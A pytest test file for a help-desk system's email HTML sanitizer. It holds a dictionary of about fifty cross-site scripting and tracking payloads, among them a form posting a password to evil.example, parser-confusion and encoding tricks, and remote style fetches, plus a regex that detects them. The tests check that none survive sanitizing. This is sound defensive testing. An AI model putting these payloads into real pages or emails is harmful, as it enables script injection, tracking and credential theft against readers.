"""An email's HTML, sanitized to be shown as written (DESIGN.md section 11): whatever the
sender put in it, nothing that runs, fetches, submits, frames or redirects comes out; a
receipt stays a readable receipt."""

from __future__ import annotations

import base64
import re

import pytest

from supportdesk.mail.inbound.original_html import (
    HTML_CUT,
    IMAGES_LEFT_OUT,
    MAX_HTML,
    MAX_IMAGES,
    REMOTE_IMAGES_BLOCKED,
    InlineImage,
    sanitized_html,
)
from supportdesk.mail.inbound.parse import parse_json, parse_mime
from tests.images import png

PIXEL = png(1, 1)
PIXEL_URI = "data:image/png;base64," + base64.b64encode(PIXEL).decode()

# Each: what an attacker writes. None of it may survive in a form a browser would act on.
HOSTILE = {
    "script": "<p>hi</p><script>parent.document.title='pwned'</script>",
    "script-case": "<ScRiPt SRC=//evil.example/x.js></sCrIpT><p>hi</p>",
    "onerror": '<img src=x onerror="alert(1)"><p>hi</p>',
    "onload-body": '<body onload="alert(1)"><p>hi</p></body>',
    "onmouseover": '<p onmouseover="alert(1)" ONCLICK=alert(1)>hi</p>',
    "javascript-link": '<a href="javascript:alert(1)">hi</a>',
    "javascript-entities": '<a href="jav&#x09;ascript&colon;alert(1)">hi</a>',
    "javascript-spaces": '<a href="  JAVASCRIPT:alert(1)">hi</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">hi</a>',
    "data-link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">hi</a>',
    "svg-script": "<svg><script>alert(1)</script><foreignObject><p>x</p></foreignObject></svg>hi",
    "svg-onload": '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>hi',
    "math-style-confusion": (
        '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">'
        "</style></mglyph></table></mtext></math>hi"
    ),
    "noscript-confusion": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">hi',
    "style-element": "<style>body{background:url(http://evil.example/t.png)}</style><p>hi</p>",
    "style-url": '<p style="background-image:url(http://evil.example/t.png)">hi</p>',
    "style-url-escaped": '<p style="background:u\\72l(http://evil.example/t.png)">hi</p>',
    "style-url-shorthand": "<p style=\"background:#fff url('//evil.example/t.png')\">hi</p>",
    "style-expression": '<p style="width:expression(alert(1))">hi</p>',
    "style-import": "<p style=\"@import 'http://evil.example/s.css'\">hi</p>",
    "style-behavior": '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">hi</p>',
    "style-list-image": '<ul style="list-style:url(http://evil.example/b.png)"><li>hi</li></ul>',
    "style-break-out": '<p style="color:red;}</style><script>alert(1)</script>">hi</p>',
    "link-stylesheet": '<link rel=stylesheet href="http://evil.example/s.css"><p>hi</p>',
    "base": '<base href="http://evil.example/"><a href="/x">hi</a>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">hi',
    "remote-img": '<img src="http://evil.example/open.gif" alt="tracker">hi',
    "remote-img-https": '<img src="https://evil.example/open.gif" width=1 height=1>hi',
    "protocol-relative-img": '<img src="//evil.example/open.gif">hi',
    "relative-img": '<img src="/api/users">hi',
    "srcset": '<img srcset="http://evil.example/a.png 1x, http://evil.example/b.png 2x">hi',
    "picture-source": (
        '<picture><source srcset="http://evil.example/a.png"><img src="http://evil.example/b.png">'
        "</picture>hi"
    ),
    "background-attribute": '<table background="http://evil.example/bg.png"><tr><td>hi</td></tr></table>',
    "svg-data-img": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">hi',
    "html-data-img": '<img src="data:text/html,<script>alert(1)</script>">hi',
    "iframe": '<iframe src="http://evil.example/"></iframe><p>hi</p>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>hi</p>',
    "object-embed": '<object data="http://evil.example/x.swf"></object><embed src="x.swf">hi',
    "form": (
        '<form action="http://evil.example/steal" method=post><input name=password>'
        "<button formaction=http://evil.example/>Log in</button></form>hi"
    ),
    "audio-video": '<video poster="http://evil.example/p.png" src="x"></video><audio src=y>hi',
    "comment-hidden": "<!--<script>alert(1)</script>--><p>hi</p>",
    "nested-comments": "<!-- <!-- --><script>alert(1)</script> -->hi",
    "conditional-comment": "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->hi",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>hi",
    "entity-tag": "&lt;script&gt;alert(1)&lt;/script&gt;hi",
    "unclosed": '<p>hi<img src="http://evil.example/x.gif',
    "null-byte": "<scr\x00ipt>alert(1)</script>hi",
    "target-top": '<a href="https://ok.example/" target="_top">hi</a>',
}

# What a browser acts on: an element that runs, loads or submits, an event handler, a URL
# that runs, or a fetch from a style. Checked in the sanitizer's output, which is HTML.
DANGEROUS = re.compile(
    r"<\s*(script|style|link|meta|base|iframe|frame|object|embed|form|input|button|svg|"
    r"math|video|audio|source|picture)\b"
    r"|\son[a-z]+\s*="
    r"|javascript:|vbscript:|data:(?!image/(png|gif|jpeg|webp);base64,)"
    r"|url\s*\(|expression\s*\(|@import|srcset|\sbackground\s*=|\\"
    r"|\ssrc\s*=\s*[\"']?(?![\"']|data:image/)"
    r"|\shref\s*=\s*[\"']?(?![\"']|https?:|mailto:|tel:)"
    r"|target=\"?_(top|parent|self)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_dangerous_comes_out(html):
    clean = sanitized_html(html)
    assert not DANGEROUS.search(clean), clean
    assert "hi" in clean  # the text itself is kept


def test_the_pattern_finds_what_the_sanitizer_removes():
    """The check above can fail: every hostile sample trips it before sanitizing (or is
    text a browser would parse into what trips it)."""
    for name, html in HOSTILE.items():
        if name in ("entity-tag", "null-byte", "nested-comments", "javascript-entities"):
            continue  # text that only looks like markup, or markup only a parser sees
        assert DANGEROUS.search(html), name


def test_remote_images_are_blocked_and_the_frame_says_so():
    clean = sanitized_html('<p>Your order</p><img src="https://shop.example/open.gif" alt="Logo">')
    assert clean.startswith(f'<p class="sd-notice">{REMOTE_IMAGES_BLOCKED}</p>')
    assert '<img alt="Logo">' in clean  # its alt text stays, its source goes
    assert "sd-notice" not in sanitized_html("<p>No images at all</p>")
    assert sanitized_html('<img src="" alt="Empty">') == '<img alt="Empty">'  # nothing remote


def test_the_email_cannot_dress_up_as_our_notice():
    clean = sanitized_html('<p class="sd-notice" id="x">Nothing was blocked.</p>')
    assert clean == "<p>Nothing was blocked.</p>"


def test_links_open_in_a_new_tab_without_referrer_or_opener():
    clean = sanitized_html(
        '<a href="https://shop.example/order/1">Order</a> <a href="mailto:help@shop.example">'
        'Mail</a> <a href="tel:+4930123">Call</a> <a href="/relative">Relative</a>'
    )
    assert clean.count('target="_blank"') == 4
    assert clean.count('rel="noopener noreferrer"') == 4
    for kept in ("https://shop.example/order/1", "mailto:help@shop.example", "tel:+4930123"):
        assert f'href="{kept}"' in clean
    assert "/relative" not in clean  # it would point into the desk itself


def test_cid_images_are_embedded_and_other_types_are_not():
    images = {
        "logo@shop": InlineImage("image/png", PIXEL),
        "evil@shop": InlineImage("image/svg+xml", b"<svg onload=alert(1)/>"),
    }
    clean = sanitized_html(
        '<img src="cid:logo@shop" alt="Shop"><img src="cid:evil@shop" alt="E">'
        '<img src="cid:missing@shop" alt="M">',
        lambda: images,
    )
    assert f'<img src="{PIXEL_URI}" alt="Shop">' in clean
    assert '<img alt="E">' in clean
    assert '<img alt="M">' in clean
    assert REMOTE_IMAGES_BLOCKED not in clean  # nothing remote was asked for


def test_the_images_are_looked_up_only_when_the_html_names_one():
    def never():
        raise AssertionError("looked up")

    assert sanitized_html("<p>No inline images</p>", never) == "<p>No inline images</p>"


def test_images_past_their_budget_are_left_out_saying_so():
    big = InlineImage("image/png", PIXEL + b"\0" * (MAX_IMAGES // 2))
    clean = sanitized_html(
        '<img src="cid:a" alt="A"><img src="cid:b" alt="B">',
        lambda: {"a": big, "b": big},
    )
    assert clean.count("data:image/png;base64,") == 1
    assert '<img alt="B">' in clean
    assert IMAGES_LEFT_OUT in clean


def test_a_long_html_is_cut_within_its_limit_saying_so():
    row = '<tr><td style="padding:4px">Item</td><td align="right">1.00</td></tr>'
    html = "<table>" + row * (MAX_HTML // len(row) + 1000) + "</table>"
    clean = sanitized_html(html)
    assert len(clean) <= MAX_HTML + 500
    assert HTML_CUT in clean
    assert clean.endswith("</tr></tbody></table>")  # what the cut left open is closed again
    assert "&lt;" not in clean


@pytest.mark.parametrize("html", ["", "   ", "<script>alert(1)</script>", "<style>p{}</style>"])
def test_html_that_shows_nothing_is_not_kept(html):
    assert sanitized_html(html) == ""


RECEIPT = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Your receipt</title>
<style>.total { font-weight: bold }</style></head>
<body style="margin:0; background:#f4f4f4">
<table width="600" cellpadding="0" cellspacing="0" border="0" align="center"
       style="background: #ffffff; font-family: Arial, Helvetica, sans-serif;
              border-collapse: collapse">
  <tr><td colspan="2" style="padding: 16px 24px; background-color: #0b5394; color: #ffffff">
    <h1 style="margin:0; font-size: 20px">Receipt #A-1042</h1></td></tr>
  <tr><th align="left" style="padding: 8px 24px; border-bottom: 1px solid #dddddd">Item</th>
      <th align="right" style="padding: 8px 24px; border-bottom: 1px solid #dddddd">Price</th></tr>
  <tr><td style="padding: 8px 24px">Toner cartridge <i>(black)</i></td>
      <td align="right" style="padding: 8px 24px">&euro;&nbsp;49.90</td></tr>
  <tr><td class="total" style="padding: 8px 24px; font-weight: bold">Total</td>
      <td align="right" style="padding: 8px 24px; font-weight: bold">&euro;&nbsp;49.90</td></tr>
  <tr><td colspan="2" style="padding: 16px 24px; font-size: 12px; color: #666666">
    Questions? <a href="https://shop.example/help" style="color:#0b5394">Contact us</a>.
    <img src="https://tracker.example/open.gif" width="1" height="1"></td></tr>
</table></body></html>"""


def test_a_receipt_stays_a_readable_table():
    clean = sanitized_html(RECEIPT)
    assert clean.startswith('<p class="sd-notice">')  # the tracking pixel was blocked
    assert '<table width="600" cellpadding="0" cellspacing="0" border="0" align="center"' in clean
    assert "background-color:#ffffff" in clean  # `background: #ffffff`, kept as a colour
    assert "font-family:Arial , Helvetica , sans-serif" in clean  # as nh3 writes it
    assert "border-collapse:collapse" in clean
    assert 'style="padding:16px 24px;background-color:#0b5394;color:#ffffff"' in clean
    assert '<th align="right" style="padding:8px 24px;border-bottom:1px solid #dddddd">' in clean
    assert "Toner cartridge <i>(black)</i>" in clean
    assert "€\u00a049.90" in clean or "€&nbsp;49.90" in clean
    assert '<td colspan="2"' in clean
    assert 'href="https://shop.example/help"' in clean
    assert "Your receipt" not in clean  # the <title> is not body text
    assert "class=" not in clean.replace('class="sd-notice"', "")
    assert not DANGEROUS.search(clean), clean


# --- in the parse: the best alternative, multipart/related, the JSON payload ---------------


def _mime(parts: str, content_type: str) -> bytes:
    return (
        "From: Shop <shop@shop.example>\r\nTo: support@example.com\r\nSubject: Receipt\r\n"
        "Message-ID: <r1@shop.example>\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: {content_type}\r\n\r\n{parts}"
    ).encode()


def test_the_parse_keeps_the_html_alternative_with_its_inline_image_and_no_script():
    logo = base64.b64encode(PIXEL).decode()
    raw = _mime(
        "--outer\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nReceipt A-1042\r\n"
        "--outer\r\nContent-Type: multipart/related; boundary=inner\r\n\r\n"
        "--inner\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        '<p>Receipt <b>A-1042</b></p><img src="cid:Logo@Shop.Example" alt="Shop">'
        "<script>alert(1)</script>\r\n"
        "--inner\r\nContent-Type: image/png\r\nContent-ID: <Logo@Shop.Example>\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{logo}\r\n--inner--\r\n--outer--\r\n",
        "multipart/alternative; boundary=outer",
    )
    parsed = parse_mime(raw)
    assert parsed.text == "Receipt A-1042"
    assert parsed.html == f'<p>Receipt <b>A-1042</b></p><img src="{PIXEL_URI}" alt="Shop">'
    assert [f.filename for f in parsed.files] == ["attachment.png"]  # still a file too


def test_a_text_only_email_keeps_no_html():
    raw = _mime("Just text.\r\n", "text/plain; charset=utf-8")
    assert parse_mime(raw).html == ""


def test_the_json_payload_html_is_sanitized_too():
    payload = {
        "from": "shop@shop.example",
        "to": "support@example.com",
        "subject": "Receipt",
        "html": '<p onclick="x()">Paid</p><img src="https://t.example/p.gif">',
        "message_id": "<r2@shop.example>",
    }
    parsed = parse_json(payload, b"{}")
    assert parsed.html == f'<p class="sd-notice">{REMOTE_IMAGES_BLOCKED}</p><p>Paid</p><img>'
    assert parsed.text == "Paid"
